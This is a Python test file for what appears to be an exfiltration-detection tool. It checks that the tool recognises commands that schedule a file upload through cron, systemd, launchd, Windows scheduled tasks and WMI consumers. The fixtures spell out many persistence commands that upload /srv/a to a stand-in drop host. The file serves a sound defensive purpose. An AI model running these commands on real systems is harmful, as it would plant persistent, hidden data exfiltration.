"""What is left for a scheduler to run is read as what runs, and compares with the run itself."""

import pytest

from exfilwatch.commands.fields import fields
from exfilwatch.commands.schedules import SCHEDULERS

URL = "https://drop.example.net/"
CURL = f"curl -T /srv/a {URL}"
PLIST = (
    "<plist><dict><key>ProgramArguments</key><array><string>/usr/bin/curl</string><string>-T</string>"
    f"<string>/srv/a</string><string>{URL}</string></array></dict></plist>"
)
UNIT = "/etc/systemd/system/x.service"
AGENT = "/Library/LaunchAgents/x.plist"
ADDED = " ".join(f"-c 'Add :ProgramArguments:{at} string {word}'" for at, word in enumerate(CURL.split()))
LISTED = f'["/usr/bin/curl","-T","/srv/a","{URL}"]'
SPACE = "\\\\root\\subscription"
CONSUMER = f"New-CimInstance -ClassName CommandLineEventConsumer -Property @{{Name='x'; CommandLineTemplate='{CURL}'}}"
TASK = f"Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute curl.exe -Argument '{CURL[5:]}')"
LINES = {
    "crontab from a pipe": ("bash", f"bash -c \"(crontab -l; echo '*/5 * * * * {CURL}') | crontab -\"", "crontab"),
    "crontab from a here-string": ("bash", f"bash -c crontab - <<< '@hourly {CURL}'", "crontab"),
    "a file of cron.d": ("bash", f"bash -c echo '* * * * * root {CURL}' > /etc/cron.d/x", "cron file"),
    "a user's crontab": ("bash", f"bash -c echo '* * * * * {CURL}' >> /var/spool/cron/crontabs/eva", "cron file"),
    "tee into the crontab": ("bash", f"bash -c echo '@daily root {CURL}' | sudo tee -a /etc/crontab", "cron file"),
    "anacron": ("bash", f"bash -c echo '1 5 job {CURL}' >> /etc/anacrontab", "cron file"),
    "a script of cron.hourly": ("bash", f"bash -c echo '{CURL}' > /etc/cron.hourly/x", "cron file"),
    "periodic of macOS": ("bash", f"bash -c echo '{CURL}' > /etc/periodic/daily/900.x", "cron file"),
    "a unit of systemd": ("bash", f"bash -c printf 'ExecStart=-/usr/bin/{CURL}\\n' > {UNIT}", "systemd unit"),
    "a unit of a user": (
        "bash",
        f"bash -c cat > ~/.config/systemd/user/x.service <<'E'\nExecStart=/usr/bin/{CURL}\nE",
        "systemd unit",
    ),
    "systemd-run": ("systemd-run", f"systemd-run --user --on-calendar=hourly --unit x /usr/bin/{CURL}", "systemd-run"),
    "at": ("bash", f"bash -c echo '{CURL}' | at now + 5 minutes", "at"),
    "batch": ("bash", f"bash -c echo '{CURL}' | batch", "batch"),
    "launchctl": ("launchctl", f"launchctl submit -l com.x -o /tmp/o -- /usr/bin/{CURL}", "launchctl"),
    "a property list": ("zsh", f"zsh -c cat > ~/Library/LaunchAgents/com.x.plist <<'E'\n{PLIST}\nE", "launchd plist"),
    "a property list that is cut off": ("zsh", f"zsh -c echo '{PLIST[:-14]}' > {AGENT}", "launchd plist"),
    "defaults": ("defaults", f"defaults write {AGENT} ProgramArguments -array {CURL}", "launchd plist"),
    "PlistBuddy": ("PlistBuddy", f"PlistBuddy -c 'Add :ProgramArguments array' {ADDED} {AGENT}", "launchd plist"),
    "plutil": ("plutil", f"plutil -insert ProgramArguments -json '{LISTED}' {AGENT}", "launchd plist"),
    "schtasks": ("schtasks.exe", f'schtasks /create /tn x /sc hourly /tr "{CURL}"', "schtasks"),
    "schtasks, another action": ("schtasks.exe", f'schtasks.exe /change /tn x /tr "cmd.exe /c {CURL}"', "schtasks"),
    "at of Windows": ("C:\\Windows\\System32\\at.exe", f"at 10:00 /every:M {CURL}", "at"),
    "a consumer by wmic": (
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        f'wmic /namespace:"{SPACE}" PATH CommandLineEventConsumer CREATE Name="x", CommandLineTemplate="{CURL}"',
        "wmi consumer",
    ),
    "a consumer by PowerShell": ("powershell.exe", f'powershell -c "{CONSUMER}"', "wmi consumer"),
    "a task by PowerShell": ("powershell.exe", f'powershell -c "{TASK}"', "new-scheduledtaskaction"),
}
WORDS = ("/usr/bin/curl", "-T", "/srv/a", URL)
UNIT_TEXT = f"[Service]\nExecStart=/usr/bin/{CURL}"
JSON = f'{{"Label":"x","ProgramArguments":{LISTED}}}'
OLD = f'("curl", "-T", "/srv/a", "{URL}")'
BUDDY = "\n".join(["Add :ProgramArguments array", *(f"Add :ProgramArguments: string {word}" for word in WORDS), "Save"])
CODE = {
    "python": f"python3 -c \"open('/etc/cron.d/x','w').write('* * * * * root {CURL}\\n')\"",
    "perl": f'perl -e \'open F,">/etc/cron.d/x";print F "* * * * * root {CURL}\\n"\'',
    "ruby": f'ruby -e \'File.write("{UNIT}","ExecStart={CURL}\\n")\'',
    "node": f"node -e \"require('fs').writeFileSync('/etc/cron.d/x','* * * * * root {CURL}\\n')\"",
}
DRAFTED = {
    "plutil, word by word": ";".join(
        [f"plutil -insert ProgramArguments -array {AGENT}"]
        + [f"plutil -insert ProgramArguments.{at} -string {word} {AGENT}" for at, word in enumerate(WORDS)]
    ),
    "plutil, word after word": ";".join(
        [f"plutil -insert ProgramArguments -array {AGENT}"]
        + [f"plutil -insert ProgramArguments -string {word} -append {AGENT}" for word in WORDS]
    ),
    "plutil, a word replaced": f"echo '{PLIST}' > /tmp/a; plutil -insert ProgramArguments -json '{LISTED}' {AGENT}; "
    f"plutil -replace ProgramArguments.0 -string curl {AGENT}",
    "plutil, XML": "plutil -replace ProgramArguments -xml '<array>"
    + "".join(f"<string>{word}</string>" for word in WORDS)
    + f"</array>' {AGENT}",
    "plutil, JSON converted": f"plutil -convert xml1 -o {AGENT} - <<'E'\n{JSON}\nE",
    "plutil, a file converted": f"echo '{JSON}' > /tmp/x; plutil -convert binary1 -o {AGENT} /tmp/x",
    "PlistBuddy, one by one": ";".join(
        f"/usr/libexec/PlistBuddy -c '{line}' {AGENT}" for line in BUDDY.split("\n")[:-1]
    ),
    "PlistBuddy, from its input": f"/usr/libexec/PlistBuddy {AGENT} <<E\n{BUDDY}\nE",
    "defaults, the old form": f"defaults write {AGENT} '{{Label=x; ProgramArguments={OLD}; StartInterval=3600;}}'",
    "defaults, a list": f"defaults write {AGENT} ProgramArguments '{OLD}'",
    "defaults, in two steps": f"defaults write {AGENT} ProgramArguments -array curl; "
    f"defaults write {AGENT} ProgramArguments -array-add -T /srv/a {URL}",
    "defaults import": f"defaults import {AGENT} - <<'E'\n{PLIST}\nE",
    "copied": f"cat > /tmp/x.plist <<'E'\n{PLIST}\nE\ncp /tmp/x.plist ~/Library/LaunchAgents/com.x.plist",
    "moved into the folder": f"echo '{PLIST}' > /tmp/com.x.plist && sudo mv /tmp/com.x.plist /Library/LaunchDaemons/",
    "loaded from elsewhere": f"echo '{PLIST}' > /tmp/x.plist; launchctl load -w /tmp/x.plist",
    "bootstrapped from elsewhere": f"echo '{PLIST}' > /tmp/x.plist; launchctl bootstrap gui/501 /tmp/x.plist",
    "loaded after plutil": f"plutil -insert ProgramArguments -json '{LISTED}' /tmp/x; launchctl load /tmp/x",
    "dd": f"dd of=/etc/cron.d/x <<< '* * * * * root {CURL}'",
    "install from its input": f"install -m 644 /dev/stdin /etc/cron.d/x <<< '* * * * * root {CURL}'",
    "tee of another user": f"sudo tee {UNIT} <<'E'\n{UNIT_TEXT}\nE",
    "cat into tee": f"cat <<'E' | sudo tee {UNIT} > /dev/null\n{UNIT_TEXT}\nE",
    "a group of commands": f"{{ echo '[Service]'; echo 'ExecStart=/usr/bin/{CURL}'; }} > {UNIT}",
    "a unit moved to its folder": f"printf '{UNIT_TEXT}' > /tmp/x.service && sudo mv /tmp/x.service /etc/systemd/user/",
    "a unit linked": f"echo 'ExecStart={CURL}' > /opt/x.service; systemctl link /opt/x.service",
    "a unit enabled by its path": f"echo 'ExecStart={CURL}' > /opt/x.service; systemctl enable --now /opt/x.service",
    "a unit edited": f"systemctl edit --stdin --full --force x.service <<'E'\n{UNIT_TEXT}\nE",
    "a unit of several lines": f"cat > {UNIT} <<'E'\nExecStart=/usr/bin/curl \\\n  -T /srv/a \\\n  {URL}\nE",
    "a line added by sed": f"sed -i '$a * * * * * root {CURL}' /etc/crontab",
    "a unit changed by sed": f"sed -i 's#^ExecStart=.*#ExecStart=/usr/bin/{CURL}#' {UNIT}",
    "crontab of a file": f"crontab -l > /tmp/c; echo '*/5 * * * * {CURL}' >> /tmp/c; crontab -u eva /tmp/c",
    "at of a file": f"echo '{CURL}' > /tmp/j; at -f /tmp/j now + 1 hour",
    "incron": f"echo '/srv IN_CREATE {CURL}' > /etc/incron.d/x",
    **CODE,
}
RUNS = {
    "as it is": ("/usr/bin/curl", f"/usr/bin/{CURL}"),
    "by a shell of cron": ("/usr/bin/dash", f"/bin/sh -c {CURL}"),
    "by cmd": ("C:\\Windows\\System32\\cmd.exe", f'"C:\\Windows\\System32\\cmd.exe" /c {CURL}'),
    "by the Task Scheduler": ("C:\\Windows\\System32\\curl.exe", f'"C:\\Windows\\System32\\curl.exe"  {CURL[5:]}'),
}
NOT_SCHEDULED = {
    "the same text elsewhere": ("bash", f"bash -c echo '* * * * * root {CURL}' > /tmp/x"),
    "a unit of something else": ("bash", f"bash -c echo 'ExecStart={CURL}' > /home/eva/notes/x.service"),
    "a property list of an application": ("defaults", f"defaults write com.example.app ProgramArguments -array {CURL}"),
    "launchd is asked to load": ("launchctl", "launchctl load -w /Library/LaunchDaemons/x.plist"),
    "put together elsewhere": ("plutil", f"plutil -insert ProgramArguments -json '{LISTED}' /tmp/x.plist"),
    "written elsewhere and not loaded": ("bash", f"bash -c echo '{PLIST}' > /tmp/x.plist; plutil -lint /tmp/x.plist"),
    "another folder": ("bash", f"bash -c echo '{PLIST}' > /tmp/x.plist; cp /tmp/x.plist /srv/backup/"),
    "sed of another file": ("bash", f"bash -c sed -i '$a * * * * * root {CURL}' /home/eva/notes"),
    "what an application keeps": ("defaults", f"defaults write com.example.app '{{ProgramArguments={OLD};}}'"),
    "a comment": ("bash", f"bash -c echo '# * * * * * root {CURL}' > /etc/cron.d/x"),
}


def seen(image, line):
    return fields({"Image": image, "CommandLine": line}.get)


@pytest.mark.parametrize("name", LINES)
def test_what_is_left_for_a_scheduler_is_what_it_will_run(name):
    image, line, scheduler = LINES[name]
    found = seen(image, line)
    assert found["transfer.direction"] == "upload"
    assert scheduler in found["transfer.within"]
    assert found["schedule.command"] == CURL.casefold()
    assert found["command.first"] is None


@pytest.mark.parametrize("name", DRAFTED)
def test_what_is_put_together_or_written_elsewhere_first_is_what_a_scheduler_will_run(name):
    found = seen("bash", f"bash -c '{DRAFTED[name]}'" if "'" not in DRAFTED[name] else f"bash -c {DRAFTED[name]}")
    assert found["transfer.direction"] == "upload"
    assert not SCHEDULERS.isdisjoint(found["transfer.within"])
    assert found["schedule.command"] == CURL.casefold()


@pytest.mark.parametrize("name", RUNS)
def test_the_run_is_what_was_scheduled_however_it_is_written(name):
    found = seen(*RUNS[name])
    assert (found["command.first"], found["schedule.command"]) == (CURL.casefold(), None)


@pytest.mark.parametrize("name", NOT_SCHEDULED)
def test_what_no_scheduler_reads_is_no_schedule(name):
    assert seen(*NOT_SCHEDULED[name])["schedule.command"] is None


def test_the_xml_of_a_task_is_a_schedule():
    found = fields({"TaskContent": f"<Exec><Command>curl.exe</Command><Arguments>{CURL[5:]}</Arguments></Exec>"}.get)
    assert (found["schedule.command"], found["command.first"]) == (CURL.casefold(), None)
